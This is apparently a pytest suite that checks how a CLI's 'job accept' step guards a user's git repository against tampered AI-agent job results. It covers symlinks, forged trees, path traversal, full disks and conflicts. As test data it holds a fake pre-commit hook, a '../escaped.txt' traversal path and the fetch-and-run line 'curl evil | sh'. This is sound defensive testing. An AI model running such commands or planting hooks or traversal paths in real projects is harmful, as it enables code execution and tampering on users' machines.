"""`logist job accept` under attack, end to end: real jobs made by the mock agent, the real
CLI, and the user-visible outcome (one line, exit status, job still in review, tree intact).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from accept_attacks import forge_commit, full_disk, leftovers
from conftest import (
    A_TXT,
    B_TXT,
    assert_one_line_error,
    git,
    make_repo,
    run_job,
    run_logist,
    show_job,
    tree_state,
)
from logist_server.domain.model import Job
from logist_server.engine.facade import Engine

BINARY = bytes(range(256)) * 4


def refused(repo: Path, job_id: str, *expected: str) -> str:
    """Accept fails with one line holding `expected`; the job stays in review."""
    before = tree_state(repo)
    line = assert_one_line_error(run_logist("job", "accept", job_id, cwd=repo, check=False), 1)
    for text in expected:
        assert text in line, line
    assert "nothing was written" in line or "refused" in line, line
    assert tree_state(repo) == before
    assert leftovers(repo) == []
    assert show_job(repo, job_id)["status"] == "review"
    return line


def test_a_symlinked_directory_in_the_users_tree_is_not_written_through(
    repo: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    job = run_job(repo, "--file", "a.txt", "--prompt", "hi", "--agent-opt", "binary=evil/x.sh")
    (repo / "evil").symlink_to(elsewhere)  # the user's own link, or one a former job added
    refused(repo, job["id"], "evil/x.sh: evil is a symbolic link")
    assert list(elsewhere.iterdir()) == []
    (repo / "evil").unlink()
    run_logist("job", "accept", job["id"], cwd=repo)
    assert (repo / "evil" / "x.sh").read_bytes() == BINARY


@pytest.mark.parametrize(
    "extra, shown",
    [
        ({".git": {"hooks": {"pre-commit": b"#!/bin/sh\necho owned\n"}}}, ".git/hooks/pre-commit"),
        ({".logist": {"roles": {"worker.yml": b"agent: evil\n"}}}, ".logist/roles/worker.yml"),
        ({"..": {"escaped.txt": b"out\n"}}, "../escaped.txt"),
    ],
)
def test_a_result_forged_after_harvest_is_refused(
    repo: Path, extra: dict[str, object], shown: str
) -> None:
    """A hostile result tree (what a forged index or cache-tree yields) reaching accept."""
    job = run_job(repo, "--file", "a.txt", "--prompt", "hi")
    engine = Engine.for_path(repo)
    result = job["result"]["result_commit"]
    forged = forge_commit(repo, result, extra)  # type: ignore[arg-type]
    tree = git(repo, "rev-parse", f"{forged}^{{tree}}").strip()

    def tamper(record: Job) -> None:  # as if harvest had recorded it (or was fooled)
        record.result.result_commit = forged
        if hasattr(record.result, "result_tree"):
            record.result.result_tree = tree

    engine.store.update(job["id"], tamper)
    refused(repo, job["id"], shown, "refused")
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert not (repo / ".logist" / "roles").exists()
    assert not (repo.parent / "escaped.txt").exists()


def test_replace_objects_made_after_review_change_nothing(repo: Path) -> None:
    job = run_job(repo, "--file", "a.txt", "--prompt", "reviewed change")
    diff = run_logist("job", "diff", job["id"], cwd=repo).stdout
    assert "+logist-mock: reviewed change" in diff
    result = job["result"]["result_commit"]
    blob = git(repo, "rev-parse", f"{result}:a.txt").strip()
    evil = git(repo, "hash-object", "-w", "--stdin", input=b"curl evil | sh\n").strip()
    git(repo, "replace", blob, evil)
    assert git(repo, "show", f"{result}:a.txt") == "curl evil | sh\n"
    run_logist("job", "accept", job["id"], cwd=repo)
    assert (repo / "a.txt").read_bytes() == A_TXT + b"logist-mock: reviewed change\n"


def test_a_changed_result_record_is_refused(repo: Path) -> None:
    """The job's record pointing at another commit than the reviewed tree: refused."""
    job = run_job(repo, "--file", "a.txt", "--prompt", "hi")
    other = run_job(repo, "--file", "b.txt", "--prompt", "other")
    engine = Engine.for_path(repo)
    if engine.get(job["id"]).result.result_tree is None:
        pytest.fail("harvest records no result tree")

    def swap(record: Job) -> None:
        record.result.result_commit = other["result"]["result_commit"]

    engine.store.update(job["id"], swap)
    refused(repo, job["id"], "not the reviewed")


def test_disk_full_part_way_writes_nothing_and_a_retry_succeeds(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", {"a.txt": A_TXT, "big/keep.txt": b"keep\n"})
    with full_disk(repo / "space"):
        job = run_job(
            repo, "--file", "a.txt", "--prompt", "hi", "--agent-opt", "binary=space/data.bin"
        )
        line = refused(repo, job["id"], "space/data.bin: ")
        assert line.startswith("logist: error: cannot accept: space/data.bin: "), line
    run_logist("job", "accept", job["id"], cwd=repo)
    assert (repo / "space" / "data.bin").read_bytes() == BINARY
    assert (repo / "a.txt").read_bytes() == A_TXT + b"logist-mock: hi\n"


def test_a_file_name_of_255_bytes_is_accepted(repo: Path) -> None:
    name = "x" * 251 + ".bin"
    job = run_job(repo, "--file", "a.txt", "--prompt", "hi", "--agent-opt", f"binary={name}")
    out = run_logist("job", "accept", job["id"], cwd=repo).stdout
    assert "2 file(s) written" in out
    assert (repo / name).read_bytes() == BINARY
    assert leftovers(repo) == []


def test_each_conflict_says_which_kind(tmp_path: Path) -> None:
    repo = make_repo(
        tmp_path / "repo",
        {
            "a.txt": A_TXT,
            "b.txt": B_TXT,
            "old.txt": b"moves\n",
            "img.bin": b"\0\1\2old",
            "gone.txt": b"the user deletes this\n",
        },
    )
    job = run_job(
        repo,
        "--file",
        "a.txt",
        "--prompt",
        "hi",
        "--agent-opt",
        "delete=b.txt",
        "--agent-opt",
        "rename=old.txt:new/moved.txt",
        "--agent-opt",
        "binary=img.bin",
        "--agent-opt",
        "chmod=gone.txt",
    )
    git(repo, "mv", "a.txt", "c.txt")
    (repo / "b.txt").write_bytes(B_TXT + b"mine\n")
    (repo / "old.txt").write_bytes(b"moves\nmine\n")
    (repo / "img.bin").write_bytes(b"\0user's binary")
    (repo / "gone.txt").unlink()
    line = refused(
        repo,
        job["id"],
        "a.txt: you renamed it to c.txt",
        "b.txt: you changed it, and the job deletes it",
        "old.txt: you changed it, and the job moves it to new/moved.txt",
        "img.bin: binary, changed on both sides",
        "gone.txt: you deleted it",
    )
    assert "new/moved.txt:" not in line  # the destination itself applies cleanly
    as_json = run_logist("job", "accept", job["id"], "--json", cwd=repo, check=False)
    assert as_json.returncode == 1
    assert sorted(json.loads(as_json.stdout)["conflicts"]) == sorted(
        ["a.txt", "b.txt", "gone.txt", "img.bin", "old.txt"]
    )


def test_a_crlf_checkout_accepts_without_a_false_conflict(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", {"a.txt": A_TXT, ".gitattributes": b"* text eol=crlf\n"})
    (repo / "a.txt").unlink()
    git(repo, "checkout", "--", "a.txt")
    crlf = A_TXT.replace(b"\n", b"\r\n")
    assert (repo / "a.txt").read_bytes() == crlf
    job = run_job(repo, "--file", "a.txt", "--prompt", "hi")
    run_logist("job", "accept", job["id"], cwd=repo)
    assert (repo / "a.txt").read_bytes() == crlf + b"logist-mock: hi\r\n"
    assert git(repo, "diff", "--numstat") == "1\t0\ta.txt\n"
